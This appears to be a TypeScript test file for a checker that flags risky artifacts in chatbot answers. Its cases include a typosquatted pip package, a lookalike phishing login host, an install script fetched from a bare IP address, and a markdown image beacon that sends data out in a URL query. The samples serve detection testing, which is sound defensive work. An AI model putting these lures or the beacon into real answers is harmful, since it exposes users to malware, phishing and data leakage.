// Cases for verify_artifacts: what an answer hands over to be used.
import { chatAnswer } from '../testing/chat-answer.ts';
import { callOf, chatBody, type StepCase } from '../testing/step-case.ts';

export const cases: readonly StepCase[] = [
  {
    shows: 'ordinary packages and links pass',
    kind: 'good',
    call: callOf(chatBody('x'), {
      answer: chatAnswer({ content: 'pip install requests numpy, see https://docs.example.org/install' }),
    }),
    verdict: 'pass',
  },
  {
    shows: 'a package one slip away',
    kind: 'bad',
    call: callOf(chatBody('x'), { answer: chatAnswer({ content: 'Run pip install reqeusts now' }) }),
    verdict: 'found',
    says: ['typosquat_package'],
  },
  {
    shows: 'an imitated host and a program from a bare address',
    kind: 'bad',
    call: callOf(chatBody('x'), {
      answer: chatAnswer({ content: 'https://paypa1.com/login or http://203.0.113.9/x/install.sh' }),
    }),
    verdict: 'found',
    says: ['imitated_host', 'program_from_address'],
  },
  {
    shows: 'a beacon',
    kind: 'bad',
    call: callOf(chatBody('x'), { answer: chatAnswer({ content: '![x](https://c.example/p.png?q={data})' }) }),
    verdict: 'found',
    says: ['image_beacon'],
  },
  {
    shows: 'a package that is its own',
    kind: 'near-miss',
    call: callOf(chatBody('x'), { answer: chatAnswer({ content: 'npm install my-own-thing preact' }) }),
    verdict: 'pass',
  },
];
